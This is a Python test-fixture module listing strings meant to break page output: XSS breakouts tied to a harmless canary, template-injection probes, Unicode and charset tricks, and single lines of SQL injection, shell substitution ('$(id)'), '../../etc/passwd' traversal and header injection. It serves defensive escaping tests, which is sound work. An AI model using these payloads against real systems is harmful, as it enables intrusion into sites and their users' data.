r"""One table of values that break pages: `HOSTILE` is what every output of every path is tried with.

Whatever runs as code sets ``window.canary``.
"""

from __future__ import annotations

__all__ = ["ADDRESSES", "HOSTILE"]

HOSTILE: tuple[tuple[str, str], ...] = (
    # --- Out of a script element: its text is read by the HTML parser first, whatever JavaScript thinks of quotes.
    ("script-end", "</script><script>window.canary=1</script>"),  # the classic
    ("script-end-upper", "</SCRIPT><img src=x onerror=window.canary=1>"),  # names of elements have no case
    ("script-end-blank", "</script ><svg onload=window.canary=1>"),  # an end tag may have blanks
    ("script-end-line-feed", "</script\n><svg onload=window.canary=1>"),  # and line feeds
    ("script-end-slash", "</script/><svg onload=window.canary=1>"),  # and a slash
    ("script-end-attribute", "</script x><svg onload=window.canary=1>"),  # and attributes
    ("script-end-tab", "</script\t><svg/onload=window.canary=1>"),  # a slash separates attributes as well
    ("script-end-open", "</script"),  # ours closes it
    ("script-end-half", "</scr"),  # joined with what follows
    ("script-double-escaped", "<!--<script>"),  # the next </script> then closes nothing: the rest of the page is code
    ("script-double-escaped-blank", "<!-- <script "),
    ("script-double-escaped-end", "<!--<script></script>-->"),
    ("script-escaped", "<!--"),  # also a comment to the end of the line in JavaScript
    ("script-escaped-end", "-->"),  # a line that begins so is a comment in JavaScript
    ("script-escaped-end-line", "\n--> window.canary=1"),
    ("script-escaped-bang", "--!>"),  # ends a comment in HTML, too
    ("script-cdata", "]]><script>window.canary=1</script>"),  # leaves a CDATA section in XHTML
    ("script-cdata-begin", "<![CDATA["),
    ("less-than", "<"),
    ("greater-than", ">"),
    ("slash", "/"),
    # --- Out of a JavaScript string.
    ("double-quote", '"'),
    ("single-quote", "'"),
    ("backtick", "`"),
    ("string-break", '"});window.canary=1;//'),
    ("string-break-single", "'});window.canary=1;//"),
    ("string-break-plus", '"+(window.canary=1)+"'),
    ("string-break-minus", "'-(window.canary=1)-'"),
    ("string-break-comma", '",window.canary=1,"'),
    ("string-break-key", '","email":"john.doe@example.com'),  # one more key: the last one wins
    ("string-break-after-backslash", '\\"});window.canary=1;//'),  # where only quotes are escaped
    ("string-break-after-two", '\\\\"});window.canary=1;//'),
    ("backslash", "\\"),  # escapes the closing quote
    ("backslashes-odd", "\\\\\\"),
    ("backslash-end", "Jane\\"),
    ("backslash-line-feed", "Jane\\\nDoe"),  # a continued line
    ("backslash-n", "Jane\\nDoe"),  # a backslash and the letter n, no line feed
    ("backslash-u0000", "Jane\\u0000Doe"),  # the six characters, which are also what joined values are split at
    ("backslash-backslash-u0000", "Jane\\\\u0000Doe"),
    ("backslash-u005c", "\\u005c"),
    ("backslash-u0022", "\\u0022});window.canary=1;//"),  # for who decodes twice
    ("backslash-u-open", "\\u"),  # a syntax error if it arrives unescaped
    ("backslash-u-brace", "\\u{1F600}"),
    ("backslash-x", "\\x3cscript\\x3e"),
    ("backslash-x-open", "\\x"),
    ("backslash-octal", "\\0\\1\\42"),
    ("line-feed", "Jane\nDoe"),  # ends a string, and a Markdown HTML block
    ("line-feeds", "Jane\n\n\n    Doe"),
    ("carriage-return", "Jane\rDoe"),
    ("carriage-return-line-feed", "Jane\r\nDoe"),
    ("tab", "Jane\tDoe"),
    ("line-separator", "Jane\u2028Doe"),  # a line terminator in JavaScript, no white space in HTML
    ("paragraph-separator", "Jane\u2029window.canary=1"),
    ("next-line", "Jane\u0085Doe"),  # splits lines in Python, is an ellipsis in windows-1252
    ("line-comment-end", "\u2028window.canary=1//"),  # where a statement stands behind //
    ("block-comment-end", "*/window.canary=1/*"),
    ("block-comment", "/*"),
    ("line-comment", "//"),
    ("template-literal", "${window.canary=1}"),
    ("template-literal-break", "`;window.canary=1;`"),
    ("template-literal-nested", "`${`${window.canary=1}`}`"),
    ("regular-expression", "/x/.constructor"),
    ("import", "import('https://example.com/x.js')"),
    ("arrow", "=>{window.canary=1}"),
    ("parentheses", "});(()=>{window.canary=1})();({"),
    ("url-javascript", "javascript:window.canary=1"),
    ("url-percent", "%22%7D);window.canary=1//"),  # decoded in href="javascript:…"
    ("url-percent-broken", "%"),  # a malformed sequence
    ("url-data", "data:text/html,<script>window.canary=1</script>"),
    # --- Out of an attribute, quoted either way or not at all.
    ("attribute-double", '" onmouseover="window.canary=1'),
    ("attribute-single", "' onmouseover='window.canary=1"),
    ("attribute-backtick", "` onmouseover=`window.canary=1"),  # old browsers quote with it
    ("attribute-unquoted", "x onmouseover=window.canary=1"),
    ("attribute-slash", "x/onmouseover=window.canary=1"),
    ("attribute-equals", "="),
    ("attribute-end", "><svg onload=window.canary=1>"),
    ("attribute-end-double", '"><svg onload=window.canary=1>'),
    ("attribute-end-single", "'><svg onload=window.canary=1>"),
    ("attribute-autofocus", '" autofocus tabindex=1 onfocus="window.canary=1'),
    ("attribute-style", '" style="display:block'),  # would show the block
    ("attribute-class", '" class="nosto_product'),
    # --- Out of element text.
    ("element", "<img src=x onerror=window.canary=1>"),
    ("element-unclosed", "<img src=x onerror=window.canary=1 "),
    ("element-end", "</span></div><script>window.canary=1</script>"),
    ("element-forged", '</span><span class="email">john.doe@example.com</span><span>'),  # a second e-mail
    (
        "element-forged-block",
        '</span></div><div class="nosto_customer"><span class="email">john.doe@example.com</span>',
    ),
    ("element-comment", "<!-- Jane"),
    ("element-comment-bogus", "<!Jane>"),
    ("element-processing-instruction", "<?php echo 1 ?>"),
    ("element-end-nameless", "</>"),
    ("element-textarea", "</textarea><script>window.canary=1</script>"),
    ("element-title", "</title><script>window.canary=1</script>"),
    ("element-style", "</style><script>window.canary=1</script>"),
    ("element-noscript", "</noscript><script>window.canary=1</script>"),
    ("element-template", "</template><script>window.canary=1</script>"),
    ("element-select", "</select><img src=x onerror=window.canary=1>"),
    ("element-svg", "<svg><script>window.canary=1</script></svg>"),
    (
        "element-math",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=window.canary=1>'>",
    ),
    ("element-plaintext", "<plaintext>"),  # the rest of the page becomes text
    ("element-base", '<base href="https://example.com/">'),
    ("element-meta", '<meta http-equiv="refresh" content="0;url=https://example.com/">'),
    ("element-frame", "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>"),
    ("element-link", '<link rel="stylesheet" href="https://example.com/x.css">'),
    ("element-details", "<details open ontoggle=window.canary=1>"),
    ("element-placement", '<div class="nosto_element" id="frontpage-nosto-1"></div>'),
    # --- Text that says what a character reference says.
    ("entity", "&amp;"),
    ("entity-less-than", "&lt;script&gt;window.canary=1&lt;/script&gt;"),
    ("entity-without-semicolon", "&lt&gt&amp&quot"),  # parsers take these
    ("entity-decimal", "&#60;script&#62;"),
    ("entity-hexadecimal", "&#x3c;script&#x3E;"),
    ("entity-zeros", "&#0000060;b"),
    ("entity-quote", "&quot;);window.canary=1//"),  # decoded in onclick="…"
    ("entity-nul", "&#0;"),
    ("entity-surrogate", "&#xD800;"),
    ("entity-out-of-range", "&#x110000;"),
    ("entity-windows-1252", "&#128;&#159;"),  # parsers make other characters of these
    ("entity-twice", "&amp;amp;lt;"),
    ("entity-two-characters", "&NotEqualTilde;&bne;"),
    ("ampersand", "&"),
    ("ampersands", "Doe & Doe && Sons &"),
    ("semicolon", ";"),
    ("hash", "#60;"),  # after an ampersand of another value
    # --- A second pass through a template engine, on the server or in the page.
    ("jinja-expression", "{{ 7*7 }}"),
    ("jinja-statement", "{% if true %}x{% endif %}"),
    ("jinja-statement-end", "%}{{ 7*7 }}"),
    ("jinja-comment", "{# x #}"),
    ("jinja-raw-end", "{% endraw %}{{ 7*7 }}"),
    ("jinja-tag", "{% nosto_customer email='john.doe@example.com' %}"),
    ("jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja-line-statement", "\n# for x in y\n"),
    ("django-tag", "{% load nosto %}{% debug %}"),
    ("vue-constructor", "{{constructor.constructor('window.canary=1')()}}"),
    ("vue-helper", "{{_c.constructor('window.canary=1')()}}"),
    ("angular-on", "{{$on.constructor('window.canary=1')()}}"),
    ("angular-brackets", "[[constructor.constructor('window.canary=1')()]]"),  # the symbols beside Jinja
    ("alpine", '<div x-data x-init="window.canary=1"></div>'),
    ("petite-vue", '<div v-scope="{a: window.canary=1}">{{a}}</div>'),
    ("erb", "<%= 7*7 %>"),
    ("php", "<?= 7*7 ?>"),
    ("mustache", "{{{x}}}"),
    ("braces", "{}"),
    ("braces-open", "{{"),
    ("braces-close", "}}"),
    ("brackets", "]]"),
    ("format-percent", "%s %(name)s %%"),  # Python's and C's
    ("format-braces", "{0.__class__} {name!r}"),
    ("format-dollar", "$name ${name} $$"),
    ("shell", "$(id) `id` ; id | id && id"),
    ("replacement", "$& $1 $` $' \\1 \\g<0>"),  # what a replacement text means to replace() and re.sub()
    # --- Markdown.
    ("markdown-emphasis", "**Jane** _Doe_ ~~x~~ `y`"),
    ("markdown-link", "[Jane](javascript:window.canary=1)"),
    ("markdown-image", "![x](https://example.com/x.png)"),
    ("markdown-autolink", "<https://example.com> https://example.com www.example.com"),
    ("markdown-heading", "# Jane"),
    ("markdown-list", "* Jane\n* Doe\n1. x"),
    ("markdown-fence", "```\nJane\n```"),
    ("markdown-setext", "Jane\n===="),
    ("markdown-rule", "Jane\n\n---\n\nDoe"),
    ("markdown-indented", "Jane\n\n    code"),
    ("markdown-table", "| a | b |\n|---|---|\n| c | d |"),
    ("markdown-reference", "[x]: https://example.com"),
    ("markdown-emoji", ":smile: (c) ... --"),
    ("markdown-escapes", "\\* \\_ \\<"),
    ("wiki", "[[Jane]] ''Doe'' __x__"),
    # --- Names that mean something to JavaScript, JSON and Python.
    ("word-none", "None"),
    ("word-null", "null"),
    ("word-true", "true"),
    ("word-false", "False"),
    ("word-undefined", "undefined"),
    ("word-nan", "NaN"),
    ("word-infinity", "-Infinity"),
    ("word-object", "[object Object]"),
    ("word-proto", "__proto__"),
    ("word-constructor", "constructor"),
    ("word-prototype", "prototype"),
    ("word-to-string", "toString"),
    ("word-has-own-property", "hasOwnProperty"),
    ("json", '{"__proto__":{"email":"john.doe@example.com"}}'),
    ("json-array", '["Jane"]'),
    ("json-string", '"Jane"'),
    ("number", "0"),  # false to some
    ("number-long", "9007199254740993"),  # one past what a double holds
    ("number-exponent", "1e309"),
    ("number-leading-zero", "007"),
    ("number-arabic", "\u0661\u0662\u0663"),
    ("number-separators", "1_000"),
    ("class-names", "nosto_customer line_item email"),  # readers look classes up wherever they stand
    ("sql", "Jane'); DROP TABLE customers;--"),
    ("spreadsheet", "=1+1|' /C calc'!A0"),
    ("path", "../../etc/passwd"),
    ("header", "Jane\r\nSet-Cookie: x=y"),
    ("log-forging", "Jane\nERROR forged"),
    # --- Other charsets: what a page declares wrongly, or not at all.
    ("utf-7", "+ADw-script+AD4-window.canary=1+ADw-/script+AD4-"),
    ("iso-2022-jp-roman", "\x1b(J\\\x1b(B"),  # backslash becomes a yen sign
    ("iso-2022-jp-kanji", "\x1b$B<script>\x1b(B"),  # swallows the markup up to the next ESC
    ("hz-gb", "~{<script>~}"),
    ("shift-out", "\x0eJane\x0f"),
    ("shift-jis-lead", "\u00e3\u0081\u0022"),  # as windows-1252, the lead byte of a pair that swallows the quote
    ("yen", '\u00a5";window.canary=1;//'),  # the backslash of Shift_JIS
    ("windows-1252", "\u20ac \u201cquotes\u201d \u2026"),
    ("latin-1", "\u00e9\u00e8\u00fc\u00df\u00f1"),
    ("mojibake", "Ã©Ã¼"),
    ("ebcdic", "\u004c\u00a2\u0083"),
    # --- Unicode: what must arrive as it is, and what makes markup under normalisation.
    ("japanese", "山田太郎"),
    ("chinese-supplement", "𠮷野家"),  # astral, and in people's names
    ("cyrillic", "Здравствуйте"),
    ("greek-final-sigma", "ΟΔΟΣ οδος"),
    ("turkish", "İıIi"),  # changes length when lowered
    ("german-sharp-s", "Straße STRASSE ẞ"),  # changes length when upper-cased
    ("ligatures", "\ufb01\ufb03"),  # NFKC takes them apart
    ("combining", "e\u0301"),  # not the same as é, and kept so
    ("precomposed", "\u00e9"),
    ("combining-first", "\u0338Jane"),  # joins a > before it: ≯
    ("combining-many", "Z" + "\u0351\u036b\u0343" * 20),
    ("hangul-jamo", "\u1112\u1161\u11ab"),  # NFC makes one syllable
    ("fullwidth", "＜script＞window.canary=1＜/script＞"),  # NFKC makes markup
    ("fullwidth-quotes", "\uff02\uff07\uff3c"),  # " ' and \ under NFKC
    ("small-forms", "\ufe64script\ufe65"),  # < and > under NFKC
    ("angle-quotes", "\u2039script\u203a \u00abx\u00bb"),  # < and > in some best-fit tables
    ("greek-question-mark", "\u037e"),  # ; under NFC
    ("kelvin", "\u212a"),  # k without case: a class of a pattern that ignores case
    ("long-s", "</\u017fcript>"),  # s without case
    ("division-slash", "\u2215\u2044\u29f8"),
    ("right-to-left", "\u05d9\u05e2\u05dc"),
    ("right-to-left-override", "\u202egnp.exe\u202c"),
    ("right-to-left-isolate", "\u2067Jane\u2069"),
    ("right-to-left-mark", "Jane\u200fDoe\u200e"),
    ("zero-width-space", "Jane\u200bDoe"),
    ("zero-width-joiner", "Jane\u200dDoe"),
    ("zero-width-non-joiner", "می\u200cخواهم"),  # spelling in Persian
    ("zero-width-only", "\u200b"),  # no blank: it is there
    ("word-joiner", "Jane\u2060Doe"),
    ("soft-hyphen", "Jane\u00adDoe"),
    ("byte-order-mark-inside", "Jane\ufeffDoe"),
    ("byte-order-mark-first", "\ufeffJane"),  # trimmed by JavaScript
    ("no-break-space", "Jane\u00a0Doe"),
    ("no-break-space-around", "\u00a0Jane\u00a0"),  # blank to JavaScript
    ("ideographic-space", "\u3000山田\u3000太郎\u3000"),
    ("ogham-space", "Jane\u1680Doe"),
    ("mongolian-vowel-separator", "\u180eJane\u180e"),  # blank to old Unicode only
    ("blanks-inside", "Jane    Doe"),  # innerText would join them
    ("blanks-around", "  Jane  "),
    ("blank-only", " \t\n\u00a0"),  # nothing is left: not given
    ("emoji", "😀"),
    ("emoji-family", "👩\u200d👩\u200d👧\u200d👦"),
    ("emoji-skin", "👍🏽"),
    ("emoji-flag", "🇫🇮🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"),
    ("emoji-variation", "❤\ufe0f ❤\ufe0e"),
    ("tag-characters", "Jane\U000e0041\U000e0042"),  # invisible ASCII
    ("variation-selector", "葛\U000e0100"),
    ("astral-first", "\U00010000"),
    ("astral-last-but-two", "\U0010fffd"),
    ("private-use", "\ue000\U000f0000"),
    ("replacement-character", "\ufffd"),
    ("noncharacter-bmp", "Jane\ufdd0\ufdefDoe"),
    ("noncharacter-astral", "Jane\U0001fffe\U0010ffffDoe"),
    ("noncharacter-ends", "Jane\ufffe\uffffDoe"),  # forbidden in XML: dropped
    ("object-replacement", "\ufffc\ufff9x\ufffa"),
    ("unassigned", "\u0378\U000e0fff"),
    ("private-controls", "\u2061\u206a\u206f"),
    # --- What no page can carry, and what is left of it.
    ("nul", "Jane\x00Doe"),
    ("nul-in-element", "<\x00script>window.canary=1</\x00script>"),  # where a filter looks before the NUL goes
    ("nul-in-script-end", "</scr\x00ipt>"),
    ("nul-only", "\x00"),
    ("controls-c0", "".join(map(chr, range(0x20)))),
    ("controls-c1", "".join(map(chr, range(0x7F, 0xA0)))),
    ("control-between", "java\x01script:window.canary=1"),
    ("control-first", "\x01javascript:window.canary=1"),
    ("backspace", "Jane\x08\x08"),
    ("vertical-tab", "Jane\x0bDoe"),
    ("form-feed", "Jane\x0cDoe"),  # white space in HTML
    ("escape-sequence", "\x1b[31mJane\x1b[0m"),  # colours a terminal
    ("unit-separator", "Jane\x1fDoe"),  # blank to Python's strip()
    ("delete", "Jane\x7fDoe"),
    ("surrogate-high", "Jane\ud800"),
    ("surrogate-low", "\udc00Jane"),
    ("surrogates-reversed", "\ude00\ud83d"),
    ("surrogate-pair", "\ud83d\ude00"),  # two code points in Python, one in a page
    ("surrogate-and-control", "\ud83d\x00\ude00"),  # dropping what stands between must not join them
    ("surrogate-escape", b"Jane \xff\xfe".decode("ascii", "surrogateescape")),  # what os.environ holds
    ("surrogate-before-markup", "\ud800<script>"),
    # --- Long ones, at the cap.
    ("long-plain", "a" * 1000),
    ("long-markup", "<" * 1000),
    ("long-quotes", "\"'" * 500),
    ("long-backslashes", "\\" * 1000),
    ("long-ampersands", "&" * 1000),
    ("long-astral", "😀" * 1000),
    ("long-japanese", "漢" * 1000),
    ("long-mixed", '<é"😀\\' * 200),
    ("long-once-trimmed", "  " + "a" * 1000 + "\x00"),
    # --- Everything at once.
    ("ascii", "".join(map(chr, range(0x20, 0x7F)))),
    (
        "polyglot",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.canary=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.canary=1//>\\x3e",
    ),
    ("naughty-quotes", "\"''''\"'\"`´‘’“”"),
)

# What is hostile and an address all the same: by the rule of browsers much is allowed before the @.
ADDRESSES: tuple[tuple[str, str], ...] = (
    ("apostrophe", "o'doe@example.com"),
    ("apostrophe-code", "'-window.canary-'@example.com"),
    ("backtick", "`${window.canary=1}`@example.com"),
    ("template", "{{7*7}}@example.com"),
    ("template-statement", "{%if%}@example.com"),
    ("template-end", "%}{{x}}@example.com"),
    ("entity", "jane&lt&amp&#60@example.com"),  # parsers take some without a semicolon
    ("attribute", "x/onmouseover=window.canary=1@example.com"),
    ("block-comment", "*/window.canary=1/*@example.com"),
    ("line-comment", "//jane@example.com"),
    ("utf-7", "+ADw-jane+AD4-@example.com"),
    ("markdown", "_jane_~~doe~~`x`@example.com"),
    ("dollar", "$&$1$$@example.com"),
    ("percent", "%22%7D@example.com"),
    ("every-sign", "!#$%&'*+/=?^_`{|}~.-@example.com"),
    ("latin", "élan@exämple.example.com"),
    ("japanese", "山田@例え.example.com"),
    ("emoji", "🦄@example.com"),
    ("astral", "𠮷@example.com"),
    ("fullwidth", "＜script＞@example.com"),  # NFKC makes markup
    ("combining", "\u0338jane@example.com"),
    ("long", "a" * 308 + "@example.com"),
)
